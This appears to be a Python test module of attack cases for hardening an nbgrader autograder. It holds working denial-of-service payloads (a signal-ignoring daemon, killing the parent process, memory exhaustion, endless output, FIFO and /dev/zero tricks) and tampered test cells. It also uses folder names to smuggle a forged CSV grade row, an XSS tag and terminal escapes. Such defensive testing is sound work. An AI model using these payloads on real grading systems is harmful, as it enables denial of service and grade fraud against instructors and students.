"""Attacks on the whole run: denial of service, huge and malformed notebooks, several
notebooks, edited tests, and what the run reads and writes for everyone: timestamp.txt,
names, the summary, the gradebook (issue 10)."""

from __future__ import annotations

import copy

from nbformat.v4 import new_code_cell, new_markdown_cell

from attacks import (
    attack,
    before_tests,
    cases,
    stubs_with,
    wrong101,
)
from attacks.feedback import HTML_NAME

# == 10. denial of service within the run ======================================================
ORPHAN = """
import os, signal, time
_pid = os.fork()
if _pid == 0:
    os.setsid()
    if os.fork() == 0:
        for _s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGALRM):
            signal.signal(_s, signal.SIG_IGN)
        while True:
            time.sleep(1)
    os._exit(0)
os.waitpid(_pid, 0)
print("a daemon holding every inherited descriptor is running")
"""


@attack("whole-run DoS: a daemon that never exits", max_seconds=60)
def atk_orphan_daemon(ctx):
    """A double-forked daemon in its own session, ignoring signals, holding every inherited
    descriptor (the result pipe too): the grader must not wait for it."""
    return ctx.nb(before_tests(ctx.release, ORPHAN))


@attack("whole-run DoS: killing the parent")
def atk_kill_parent(ctx):
    """The notebook kills its parent, process 1 of its namespace and its process group."""
    src = (
        "import os, signal\n"
        "for _pid in (os.getppid(), 1):\n"
        "    try:\n        os.kill(_pid, signal.SIGKILL)\n    except OSError as exc:\n"
        "        print('kill', _pid, exc)\n"
        "try:\n    os.killpg(os.getpgid(0), signal.SIGTERM)\nexcept OSError as exc:\n"
        "    print('killpg', exc)"
    )
    return ctx.nb(before_tests(ctx.release, src))


MEMORY_FORKS = """
import os, time
_held, _pids, _reads = 0, [], []
for _ in range(3):  # all three at once: each allocates while the others hold theirs
    _r, _w = os.pipe()
    _pid = os.fork()
    if _pid == 0:
        try:
            _b = bytearray(b"\\x01") * (600 * 2**20)  # every page touched, in C
            os.write(_w, b"1")
        except BaseException:
            os.write(_w, b"0")
        time.sleep(8)
        os._exit(0)
    os.close(_w)
    _reads.append(_r)
    _pids.append(_pid)
_ok = [os.read(_r, 1) == b"1" for _r in _reads]
time.sleep(1)
# held = allocated AND still alive now: a child the OOM killer took after it reported (the
# killer picks the largest process, often one that already finished) holds nothing
for _pid, _good in zip(_pids, _ok):
    if _good and os.waitpid(_pid, os.WNOHANG) == (0, 0):
        _held += 600
print("PROBE-RAN HELD_MB=%d" % _held)
for _pid in _pids:
    os.kill(_pid, 9)
"""


@attack("whole-run DoS: memory across forked processes", canary="PROBE-RAN")
def atk_memory_forks(ctx):
    """Three forked children each hold 600 MB (under the per-process limit, over the notebook's):
    the sandbox must cap the total (checked: HELD_MB, the memory of the children alive together
    at the end, at most the --memory limit)."""
    return ctx.nb(before_tests(ctx.release, MEMORY_FORKS))


@attack("whole-run DoS: infinite output on the raw descriptors")
def atk_infinite_output(ctx):
    """Writes without end straight to file descriptors 1 and 2 (not through sys.stdout)."""
    src = "import os\nwhile True:\n    os.write(1, b'x' * 65536)\n    os.write(2, b'y' * 65536)"
    return ctx.nb(before_tests(ctx.release, src))


@attack("whole-run DoS: a huge notebook", most="baseline", max_seconds=120)
def atk_huge_notebook(ctx):
    """The ×1.01 answer with a 30 MB markdown cell, 20,000 small markdown cells and 500 empty
    code cells before the tests."""
    nb = wrong101(ctx)
    extra = [new_markdown_cell("x" * 30 * 2**20)]
    extra += [new_markdown_cell(f"note {i}") for i in range(20_000)]
    extra += [new_code_cell("pass") for _ in range(500)]
    ids = [c.get("metadata", {}).get("nbgrader", {}).get("grade_id") for c in nb.cells]
    at = ids.index("forget")
    nb.cells[at:at] = extra
    return ctx.nb(nb)


@attack("whole-run DoS: deeply nested JSON")
def atk_deep_json(ctx):
    """A notebook file that is JSON nested 200,000 deep (json.loads raises RecursionError)."""
    return {f"{ctx.notebook}.ipynb": b'{"cells": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"}


# == 11. notebooks: several, duplicated ids, edited tests =====================================
@attack("multiple notebooks")
def atk_multiple_notebooks(ctx):
    """The blank notebook under its own name, and the solved one under three other names and
    one folder deeper: only the assignment's own notebook counts."""
    solved = cases.dumps(ctx.solved())
    return {
        f"{ctx.notebook}.ipynb": cases.dumps(ctx.release),
        f"{ctx.notebook} (1).ipynb": solved,
        f"{ctx.notebook.capitalize()}.ipynb": solved,
        f"{ctx.assignment}/{ctx.notebook}.ipynb": solved,
        f"{ctx.notebook}.ipynb.bak": solved,
    }


@attack("editing test cells and metadata; duplicated cell ids", most="baseline")
def atk_duplicate_ids(ctx):
    """The ×1.01 answer with every cell id the same, each test cell emptied and duplicated with
    grade=False, points=100 and the id of the setup cell, and a copy of each test's grade_id
    placed before it with 'pass'."""
    nb = wrong101(ctx)
    cells = []
    for cell in nb.cells:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade") and not meta.get("solution"):
            fake = copy.deepcopy(cell)
            fake.source = "pass"
            fake.metadata["nbgrader"]["points"] = 100
            cells.append(fake)
            cell.source = "pass"
            twin = copy.deepcopy(cell)
            twin.metadata["nbgrader"]["grade"] = False
            cells += [cell, twin]
        else:
            cells.append(cell)
    for cell in cells:
        cell["id"] = "setup"
    nb.cells = cells
    return ctx.nb(nb)


# == 12. attacks on the run: names, timestamp.txt, the gradebook ===============================
@attack("whole-run DoS: timestamp.txt is a FIFO", run="fifo", most="full")
def atk_timestamp_fifo(ctx):
    """A correct notebook whose timestamp.txt is a named pipe: whoever opens it waits for ever."""
    return {**ctx.nb(ctx.solved()), "timestamp.txt": "@fifo"}


@attack("whole-run DoS: timestamp.txt links to /dev/stdin", run="stdin", most="full")
def atk_timestamp_stdin(ctx):
    """A correct notebook whose timestamp.txt is a link to /dev/stdin (the grader runs with an
    open terminal)."""
    return {**ctx.nb(ctx.solved()), "timestamp.txt": "@link:/dev/stdin"}


@attack("whole-run DoS: timestamp.txt links to /dev/zero", run="devzero", most="full")
def atk_timestamp_dev_zero(ctx):
    """A correct notebook whose timestamp.txt links to /dev/zero: reading it to the end never
    ends and fills the grader's memory."""
    return {**ctx.nb(ctx.solved()), "timestamp.txt": "@link:/dev/zero"}


@attack("whole-run DoS: a huge (sparse) timestamp.txt", run="sparse", most="full")
def atk_timestamp_huge(ctx):
    """A correct notebook whose timestamp.txt is a 2 GB sparse file of zero bytes."""
    return {**ctx.nb(ctx.solved()), "timestamp.txt": "@sparse:" + str(2 * 2**30)}


FORGED_ROW = "ex03_forget_gate,,2026-01-01 12:00:00,victim,,,,14.0,0.0,14.0,14.0"


@attack("forged CSV rows: a folder name with commas and newlines", run="names", most="zero",
        student="mallory\n" + FORGED_ROW + "\nx,y")  # fmt: skip
def atk_csv_rows(ctx):
    """A student folder whose name holds a newline and a whole grades.csv row giving 'victim'
    full marks (the notebook is blank)."""
    return ctx.nb(ctx.release)


@attack("stored XSS: a student folder named with HTML", run="names", most="zero",
        student=HTML_NAME, feedback=True)  # fmt: skip
def atk_html_student_name(ctx):
    """A student folder named <img src=x onerror=...> (shown in formgrader and feedback)."""
    return ctx.nb(ctx.release)


@attack("terminal escapes: a student folder name", run="names", most="zero", terminal="student",
        student="\x1b]2;F-esc-student\x07\x1b[2Jeve")  # fmt: skip
def atk_esc_student_name(ctx):
    """A student folder whose name clears the instructor's terminal and sets its title."""
    return ctx.nb(ctx.release)


@attack("a student folder with a reserved name", run="reserved", most="zero",
        student="autograde_summary.json")  # fmt: skip
def atk_reserved_summary(ctx):
    """A student folder named autograde_summary.json: autograded/autograde_summary.json becomes
    a folder and the summary cannot be written (today every later run exits 1)."""
    return ctx.nb(ctx.release)


@attack("a grade that cannot be recorded: partial credit above the maximum", run="stale",
        most="zero")  # fmt: skip
def atk_stale_partial(ctx):
    """First graded with a correct notebook (14); then resubmitted blank, with a displayhook of
    1e9 in each stub, which nbgrader refuses to save: the old 14 must not stay."""
    return ctx.nb(stubs_with(ctx, "get_ipython().displayhook(1e9)"))


@attack("a grade that cannot be recorded: a path too long for autograded/", run="stale",
        most="zero")  # fmt: skip
def atk_stale_path(ctx):
    """First graded with a correct notebook (14); then resubmitted blank with an extra file whose
    path is 4095 characters in submitted/ and so 4096, too long, in autograded/."""
    return {**ctx.nb(ctx.release), "@pathmax": b"x\n"}
